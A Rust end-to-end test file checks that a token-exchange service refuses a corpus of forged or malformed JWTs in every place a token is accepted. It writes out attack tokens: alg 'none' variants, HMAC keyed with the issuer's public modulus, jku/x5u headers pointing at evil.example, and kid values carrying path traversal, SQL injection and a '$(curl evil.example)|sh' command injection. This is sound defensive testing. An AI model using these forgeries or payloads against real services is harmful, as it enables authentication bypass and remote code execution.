//! The JWT attack corpus: one table row per attack, each sent to the running service in every place
//! a token goes (the `Authorization` header of `/v1/credentials`, and RFC 8693's `subject_token`
//! and `actor_token` of `/oauth2/token`) and expected to be refused with its stable code: a 4xx,
//! or a retryable 503 where the issuer's keys cannot be had, never any other 5xx, never a panic.
//! After the corpus the service must still answer.

use base64::Engine;
use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use serde_json::{Value, json};
use stsbridge::config::SigningAlgorithm;
use stsbridge::issuer::SigningKey;
use stsbridge_e2e::{BRIDGE_URL, TestIdp};

use crate::{JWT, Setup, Stack};

fn b64(bytes: impl AsRef<[u8]>) -> String {
    URL_SAFE_NO_PAD.encode(bytes)
}

/// What each attack has to work with.
struct Ctx<'a> {
    idp: &'a TestIdp,
    partner: &'a TestIdp,
    attacker_rsa: &'a SigningKey,
    attacker_ec: &'a SigningKey,
    /// Whom the attack claims to be: a subject the rules allow `api`, or, as an actor, the one
    /// actor they allow, so that a check skipped in either place is a credential handed out.
    sub: &'static str,
}

impl Ctx<'_> {
    fn claims(&self) -> Value {
        self.idp.claims(self.sub)
    }
    fn with(&self, f: impl FnOnce(&mut serde_json::Map<String, Value>)) -> String {
        let mut c = self.claims();
        f(c.as_object_mut().unwrap());
        self.idp.sign(&c)
    }
    fn header(&self, h: Value) -> String {
        self.idp.sign_parts(
            h.to_string().as_bytes(),
            self.claims().to_string().as_bytes(),
        )
    }
    fn good(&self) -> String {
        self.idp.sign(&self.claims())
    }
    fn parts(&self) -> Vec<String> {
        self.good().split('.').map(str::to_owned).collect()
    }
    /// Signed by a key of the attacker's, with `header`.
    fn attacker(&self, key: &SigningKey, header: Value) -> String {
        let input = format!(
            "{}.{}",
            b64(header.to_string()),
            b64(self.claims().to_string())
        );
        format!("{input}.{}", b64(key.sign(input.as_bytes()).unwrap()))
    }
    fn unsigned(&self, alg: &str) -> String {
        format!(
            "{}.{}.",
            b64(json!({ "alg": alg, "typ": "JWT" }).to_string()),
            b64(self.claims().to_string())
        )
    }
    fn hmac(&self, alg: &str, secret: &[u8]) -> String {
        let input = format!(
            "{}.{}",
            b64(json!({ "alg": alg, "kid": self.idp.kid() }).to_string()),
            b64(self.claims().to_string())
        );
        let algorithm = match alg {
            "HS384" => aws_lc_rs::hmac::HMAC_SHA384,
            "HS512" => aws_lc_rs::hmac::HMAC_SHA512,
            _ => aws_lc_rs::hmac::HMAC_SHA256,
        };
        let tag = aws_lc_rs::hmac::sign(
            &aws_lc_rs::hmac::Key::new(algorithm, secret),
            input.as_bytes(),
        );
        format!("{input}.{}", b64(tag.as_ref()))
    }
}

/// One attack: a name, the token to send, the status and reason code expected where it is the
/// subject (a 401's code ends its `error_description`; any other status's code is its `error`),
/// and what is expected where it is the actor, when that is not the same token error.
struct Row {
    name: &'static str,
    build: fn(&Ctx<'_>) -> String,
    status: u16,
    code: &'static str,
    /// The status, `error` and audit `reason` as `actor_token`; `None` for a token error, which
    /// there is a 400 `invalid_request` whose `error_description` names the actor token and ends
    /// with the code.
    actor: Option<(u16, &'static str, &'static str)>,
}

fn row(name: &'static str, build: fn(&Ctx<'_>) -> String, status: u16, code: &'static str) -> Row {
    Row {
        name,
        build,
        status,
        code,
        actor: None,
    }
}

impl Row {
    /// What the same token answers as `actor_token` when that is not a token error.
    fn actor_gets(self, status: u16, error: &'static str, reason: &'static str) -> Row {
        Row {
            actor: Some((status, error, reason)),
            ..self
        }
    }
}

fn corpus() -> Vec<Row> {
    vec![
        row("alg none", |c| c.unsigned("none"), 401, "alg_none"),
        row("alg None", |c| c.unsigned("None"), 401, "alg_none"),
        row("alg NONE", |c| c.unsigned("NONE"), 401, "alg_none"),
        row("alg nOnE", |c| c.unsigned("nOnE"), 401, "alg_none"),
        row(
            "alg none with a valid token's signature",
            |c| format!("{}{}", c.unsigned("none"), c.parts()[2]),
            401,
            "alg_none",
        ),
        row(
            "HS256 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS256",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        row(
            "HS384 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS384",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        row(
            "HS512 keyed with the issuer's modulus",
            |c| {
                c.hmac(
                    "HS512",
                    &URL_SAFE_NO_PAD
                        .decode(c.idp.public_jwk()["n"].as_str().unwrap())
                        .unwrap(),
                )
            },
            401,
            "alg_hmac",
        ),
        row(
            "HS256 keyed with the JWK text",
            |c| c.hmac("HS256", c.idp.public_jwk().to_string().as_bytes()),
            401,
            "alg_hmac",
        ),
        row(
            "jku to the attacker's JWKS",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "jku": "https://evil.example/jwks.json" }),
                )
            },
            401,
            "bad_signature",
        ),
        row(
            "x5u to the attacker's certificate",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "x5u": "https://evil.example/cert.pem" }),
                )
            },
            401,
            "bad_signature",
        ),
        row(
            "jwk embedding the attacker's key",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "jwk": c.attacker_rsa.public_jwk() }),
                )
            },
            401,
            "bad_signature",
        ),
        row(
            "x5c embedding a certificate",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "x5c": [STANDARD.encode(b"not a certificate")] }),
                )
            },
            401,
            "bad_signature",
        ),
        row(
            "the attacker's own kid",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "kid": c.attacker_rsa.kid() }),
                )
            },
            401,
            "unknown_kid",
        ),
        row(
            "the issuer's kid, the attacker's signature",
            |c| {
                c.attacker(
                    c.attacker_rsa,
                    json!({ "alg": "RS256", "kid": c.idp.kid() }),
                )
            },
            401,
            "bad_signature",
        ),
        row(
            "kid path traversal",
            |c| c.header(json!({ "alg": "RS256", "kid": "../../../../../../dev/null" })),
            401,
            "unknown_kid",
        ),
        row(
            "kid SQL injection",
            |c| c.header(json!({ "alg": "RS256", "kid": "x' UNION SELECT 'secret' --" })),
            401,
            "unknown_kid",
        ),
        row(
            "kid command injection",
            |c| c.header(json!({ "alg": "RS256", "kid": "$(curl evil.example)|sh" })),
            401,
            "unknown_kid",
        ),
        row(
            "kid with a NUL byte",
            |c| c.header(json!({ "alg": "RS256", "kid": "a\u{0}b" })),
            401,
            "unknown_kid",
        ),
        row(
            "kid as a URL",
            |c| c.header(json!({ "alg": "RS256", "kid": "https://evil.example/key" })),
            401,
            "unknown_kid",
        ),
        row(
            "kid not a string",
            |c| c.header(json!({ "alg": "RS256", "kid": { "$ne": null } })),
            401,
            "malformed_header",
        ),
        row(
            "unknown crit",
            |c| c.header(json!({ "alg": "RS256", "kid": c.idp.kid(), "crit": ["exp"] })),
            401,
            "crit_unsupported",
        ),
        row(
            "empty crit",
            |c| c.header(json!({ "alg": "RS256", "kid": c.idp.kid(), "crit": [] })),
            401,
            "crit_unsupported",
        ),
        row(
            "b64 false under crit",
            |c| {
                c.header(
                    json!({ "alg": "RS256", "kid": c.idp.kid(), "b64": false, "crit": ["b64"] }),
                )
            },
            401,
            "crit_unsupported",
        ),
        row(
            "tampered payload",
            |c| {
                let p = c.parts();
                let mut claims = c.claims();
                claims["sub"] = json!("svc:admin");
                format!("{}.{}.{}", p[0], b64(claims.to_string()), p[2])
            },
            401,
            "bad_signature",
        ),
        row(
            "stripped signature",
            |c| {
                let p = c.parts();
                format!("{}.{}.", p[0], p[1])
            },
            401,
            "bad_signature",
        ),
        row(
            "truncated signature",
            |c| {
                let p = c.parts();
                format!("{}.{}.{}", p[0], p[1], &p[2][..20])
            },
            401,
            "bad_signature",
        ),
        row(
            "signature not base64url",
            |c| {
                let p = c.parts();
                format!("{}.{}.***", p[0], p[1])
            },
            401,
            "bad_signature",
        ),
        row(
            "expired",
            |c| {
                c.with(|m| {
                    m.insert("iat".into(), json!(1_000));
                    m.insert("exp".into(), json!(1_600));
                })
            },
            401,
            "expired",
        ),
        row(
            "not yet valid",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("nbf".into(), json!(t + 300));
                })
            },
            401,
            "not_yet_valid",
        ),
        row(
            "issued in the future",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("iat".into(), json!(t + 300));
                    m.insert("exp".into(), json!(t + 900));
                })
            },
            401,
            "issued_in_future",
        ),
        row(
            "no iat: the token's true lifetime is unknown",
            |c| {
                c.with(|m| {
                    m.remove("iat");
                })
            },
            401,
            "missing_iat",
        ),
        row(
            "an act chain that is not objects with a string sub, from an accept_act issuer",
            |c| {
                c.partner.token(
                    c.sub,
                    json!({ "act": { "sub": "svc:relay", "act": "root" } }),
                )
            },
            400,
            "invalid_request",
        )
        // Only the subject's chain is carried on (RFC 8693 §4.1): an actor token's own act is
        // not read, and what refuses it is that the partner's identity is not the listed actor.
        .actor_gets(403, "access_denied", "actor_not_allowed"),
        row(
            "lifetime too long",
            |c| {
                c.with(|m| {
                    let t = m["iat"].as_u64().unwrap();
                    m.insert("exp".into(), json!(t + 30 * 86_400));
                })
            },
            401,
            "lifetime_too_long",
        ),
        row(
            "no exp",
            |c| {
                c.with(|m| {
                    m.remove("exp");
                })
            },
            401,
            "missing_exp",
        ),
        row(
            "exp as a string",
            |c| {
                c.with(|m| {
                    m.insert("exp".into(), json!("never"));
                })
            },
            401,
            "invalid_claim",
        ),
        row(
            "iss with a trailing slash",
            |c| {
                c.with(|m| {
                    let i = format!("{}/", m["iss"].as_str().unwrap());
                    m.insert("iss".into(), json!(i));
                })
            },
            401,
            "unknown_issuer",
        ),
        row(
            "iss in upper case",
            |c| {
                c.with(|m| {
                    let i = m["iss"].as_str().unwrap().to_uppercase();
                    m.insert("iss".into(), json!(i));
                })
            },
            401,
            "unknown_issuer",
        ),
        row(
            "iss is a trust entry's name",
            |c| {
                c.with(|m| {
                    m.insert("iss".into(), json!("ci"));
                })
            },
            401,
            "unknown_issuer",
        ),
        row(
            "iss of another trusted issuer, our key",
            |c| {
                c.with(|m| {
                    m.insert("iss".into(), json!(c.partner.issuer.clone()));
                })
            },
            401,
            "unknown_kid",
        ),
        row(
            "no iss",
            |c| {
                c.with(|m| {
                    m.remove("iss");
                })
            },
            401,
            "missing_iss",
        ),
        row(
            "no aud",
            |c| {
                c.with(|m| {
                    m.remove("aud");
                })
            },
            401,
            "missing_aud",
        ),
        row(
            "wrong aud",
            |c| {
                c.with(|m| {
                    m.insert("aud".into(), json!("https://other.example"));
                })
            },
            401,
            "audience_mismatch",
        ),
        row(
            "aud array without ours",
            |c| {
                c.with(|m| {
                    m.insert("aud".into(), json!(["a", "b", "https://stsbridge.test/"]));
                })
            },
            401,
            "audience_mismatch",
        ),
        row(
            "no sub",
            |c| {
                c.with(|m| {
                    m.remove("sub");
                })
            },
            401,
            "missing_sub",
        ),
        row(
            "another trusted issuer's token against our rules",
            |c| c.partner.token(c.sub, json!({})),
            403,
            "access_denied",
        )
        // The actor the rule lists is qualified by its issuer: the same name from another
        // trusted issuer is not it.
        .actor_gets(403, "access_denied", "actor_not_allowed"),
        row(
            "duplicate sub",
            |c| {
                // A parser where the last key wins would read the allowed name.
                let t = c.claims();
                let text = format!(
                    r#"{{"iss":{},"sub":"svc:admin","sub":{},"aud":{},"iat":{},"exp":{}}}"#,
                    t["iss"], t["sub"], t["aud"], t["iat"], t["exp"]
                );
                c.idp.sign_parts(
                    json!({ "alg": "RS256", "kid": c.idp.kid() })
                        .to_string()
                        .as_bytes(),
                    text.as_bytes(),
                )
            },
            401,
            "duplicate_json_key",
        ),
        row(
            "duplicate alg",
            |c| {
                let h = format!(r#"{{"alg":"RS256","alg":"none","kid":"{}"}}"#, c.idp.kid());
                c.idp
                    .sign_parts(h.as_bytes(), c.claims().to_string().as_bytes())
            },
            401,
            "duplicate_json_key",
        ),
        row(
            "claims not UTF-8",
            |c| {
                c.idp.sign_parts(
                    json!({ "alg": "RS256", "kid": c.idp.kid() })
                        .to_string()
                        .as_bytes(),
                    b"{\"iss\":\"\xff\xfe\"}",
                )
            },
            401,
            "malformed_claims",
        ),
        row(
            "claims nested 1000 deep",
            |c| {
                c.with(|m| {
                    let mut v = json!(1);
                    for _ in 0..1000 {
                        v = json!([v]);
                    }
                    m.insert("deep".into(), v);
                })
            },
            401,
            "json_too_deep",
        ),
        row(
            "17 KiB token",
            |c| {
                c.with(|m| {
                    m.insert("pad".into(), json!("x".repeat(17 * 1024)));
                })
            },
            401,
            "token_too_large",
        ),
        row(
            "garbage base64",
            |_| "%%%.%%%.%%%".into(),
            401,
            "malformed_token",
        ),
        row(
            "two segments",
            |c| {
                let p = c.parts();
                format!("{}.{}", p[0], p[1])
            },
            401,
            "malformed_token",
        ),
        row(
            "four segments",
            |c| format!("{}.x", c.good()),
            401,
            "malformed_token",
        ),
        row(
            "ES256 for an RS256-only issuer",
            |c| c.attacker(c.attacker_ec, json!({ "alg": "ES256", "kid": c.idp.kid() })),
            401,
            "alg_not_allowed",
        ),
        row(
            "RS1, an unsupported alg",
            |c| c.header(json!({ "alg": "RS1", "kid": c.idp.kid() })),
            401,
            "alg_unsupported",
        ),
        row(
            "header is not JSON",
            |c| {
                c.idp
                    .sign_parts(b"not json", c.claims().to_string().as_bytes())
            },
            401,
            "malformed_header",
        ),
        row(
            "an issuer whose keys cannot be fetched",
            |c| {
                c.with(|m| {
                    m.insert("iss".into(), json!(UNREACHABLE_ISSUER));
                })
            },
            503,
            "upstream_unavailable",
        )
        // Not the caller's fault in either place: retry later, as the subject would.
        .actor_gets(503, "upstream_unavailable", "jwks_unavailable"),
    ]
}

/// A trusted issuer whose keys cannot be fetched: nothing listens there.
const UNREACHABLE_ISSUER: &str = "http://127.0.0.1:9";

/// `svc:alice` of `ci`, a valid subject, exchanged for `api` with `actor` acting for it.
async fn with_actor(stack: &Stack, actor: &str) -> (u16, Value) {
    let subject = stack.idp.token("svc:alice", json!({}));
    stack
        .exchange(
            &subject,
            "api",
            &[("actor_token", actor), ("actor_token_type", JWT)],
        )
        .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_attack_is_refused_with_its_code_in_every_token_place_and_the_service_survives() {
    let partner = TestIdp::start().await;
    let trust_extra = format!(
        "  - {{ name: partner, issuer: \"{}\", audiences: [\"https://stsbridge.test\"], jwks: {{ discovery: true }}, allow_insecure_loopback: true, replay: reject, accept_act: true }}",
        partner.issuer
    );
    // A partner file's issuer is fetched on first use, so the service is ready without it.
    let unreachable = format!(
        "version: 1\ntrust:\n  - {{ name: unreachable, issuer: \"{UNREACHABLE_ISSUER}\", audiences: [\"{BRIDGE_URL}\"], jwks: {{ discovery: true }}, allow_insecure_loopback: true }}\n"
    );
    let stack = Stack::start_with_files(
        TestIdp::start().await,
        Setup {
            trust_extra: &trust_extra,
            // The whole corpus comes from one address, faster than the default failure budget.
            extra: "limits: { failed_validations_per_address: off }",
            ..Setup::default()
        },
        &[("mappings/unreachable.yaml", unreachable)],
    )
    .await;
    let attacker_rsa = SigningKey::generate(SigningAlgorithm::Rs256).unwrap().0;
    let attacker_ec = SigningKey::generate(SigningAlgorithm::Es256).unwrap().0;
    let ctx = |sub| Ctx {
        idp: &stack.idp,
        partner: &partner,
        attacker_rsa: &attacker_rsa,
        attacker_ec: &attacker_ec,
        sub,
    };
    let (as_subject, as_actor) = (ctx("svc:alice"), ctx("svc:gateway"));

    // The untampered tokens get through in every place: what refuses an attack is the attack.
    let (status, body, _) = stack
        .credentials("api", &format!("Bearer {}", as_subject.good()))
        .await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = stack.exchange(&as_subject.good(), "api", &[]).await;
    assert_eq!(status, 200, "{body}");
    let (status, body) = with_actor(&stack, &as_actor.good()).await;
    assert_eq!(status, 200, "{body}");

    let rows = corpus();
    assert!(rows.len() >= 40, "the corpus has {} attacks", rows.len());
    eprintln!("attack corpus: {} tokens in 3 places", rows.len());
    let mut failures = Vec::new();
    for row in &rows {
        let Row {
            name,
            build,
            status,
            code,
            actor,
        } = *row;
        // In the subject's places: 401 with the code at the end of the description, or the
        // row's status with the code as the error.
        let as_subject_ok = |got: u16, body: &Value| {
            got == status
                && if status == 401 {
                    body["error"] == "invalid_token"
                        && body["error_description"]
                            .as_str()
                            .is_some_and(|d| d.ends_with(&format!("({code})")))
                } else {
                    body["error"] == code
                }
        };
        let (got, body, _) = stack
            .credentials("api", &format!("Bearer {}", build(&as_subject)))
            .await;
        if !as_subject_ok(got, &body) {
            failures.push(format!(
                "{name}, in Authorization: expected {status} {code}, got {got} {body}"
            ));
        }
        let (got, body) = stack.exchange(&build(&as_subject), "api", &[]).await;
        if !as_subject_ok(got, &body) {
            failures.push(format!(
                "{name}, as subject_token: expected {status} {code}, got {got} {body}"
            ));
        }

        // As the actor of a valid subject.
        let (got, body) = with_actor(&stack, &build(&as_actor)).await;
        match actor {
            None => {
                assert_eq!(
                    status, 401,
                    "{name}: the row must say what the actor position answers"
                );
                let ok = got == 400
                    && body["error"] == "invalid_request"
                    && body["error_description"].as_str().is_some_and(|d| {
                        d.starts_with("actor token: ") && d.ends_with(&format!("({code})"))
                    });
                if !ok {
                    failures.push(format!(
                        "{name}, as actor_token: expected 400 invalid_request ({code}), got {got} {body}"
                    ));
                }
            }
            Some((want, error, reason)) => {
                let audited = match body["decision_id"].as_str() {
                    Some(id) => stack.bridge.audit_event(id).await["reason"].clone(),
                    None => Value::Null,
                };
                if got != want || body["error"] != error || audited != reason {
                    failures.push(format!(
                        "{name}, as actor_token: expected {want} {error} ({reason}), got {got} {body}, audited {audited}"
                    ));
                }
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} answers to {} attacks were wrong:\n{}",
        failures.len(),
        rows.len(),
        failures.join("\n")
    );

    // A replayed jti where the issuer rejects replay, as the subject and as the actor.
    let once = partner.token("svc:alice", json!({}));
    assert_eq!(
        stack.credentials("api", &format!("Bearer {once}")).await.0,
        403,
        "first use reaches the rules"
    );
    let (status, body, _) = stack.credentials("api", &format!("Bearer {once}")).await;
    assert_eq!(status, 401);
    assert!(
        body["error_description"]
            .as_str()
            .unwrap()
            .ends_with("(replayed_jti)"),
        "{body}"
    );
    let once = partner.token("svc:gateway", json!({}));
    let (status, body) = with_actor(&stack, &once).await;
    assert_eq!(status, 403, "first use reaches the rules: {body}");
    let (status, body) = with_actor(&stack, &once).await;
    assert_eq!(status, 400, "{body}");
    assert!(
        body["error_description"]
            .as_str()
            .unwrap()
            .ends_with("(replayed_jti)"),
        "{body}"
    );

    // Oversized requests never reach a handler's error path: 431 and 413, not 5xx.
    let huge = "a".repeat(1024 * 1024);
    let r = stack
        .http
        .get(stack.bridge.url("/v1/credentials/api"))
        .header("Authorization", format!("Bearer {huge}"))
        .send()
        .await;
    match r {
        Ok(r) => assert!(r.status().is_client_error(), "1 MiB header: {}", r.status()),
        Err(e) => assert!(
            e.is_request() || e.is_connect() || e.is_body(),
            "1 MiB header: {e}"
        ),
    }
    // A new client each time: the server closes a connection whose request it refused unread.
    let r = reqwest::Client::new()
        .post(stack.bridge.url("/oauth2/token"))
        .form(&[
            (
                "grant_type",
                "urn:ietf:params:oauth:grant-type:token-exchange",
            ),
            ("subject_token", &huge),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), 413, "1 MiB form body");
    let body: Value = r.json().await.unwrap();
    assert_eq!(body["error"], "request_too_large");

    // Still alive, and nothing panicked. A new client: the server closes the connection that
    // carried the oversized body (it never reads it), and a pooled client could race that close
    // by reusing the connection.
    assert_eq!(
        reqwest::Client::new()
            .get(stack.bridge.url("/healthz"))
            .send()
            .await
            .unwrap()
            .status(),
        200
    );
    assert!(
        !stack.bridge.stderr().contains("panicked"),
        "{}",
        stack.bridge.stderr()
    );
}
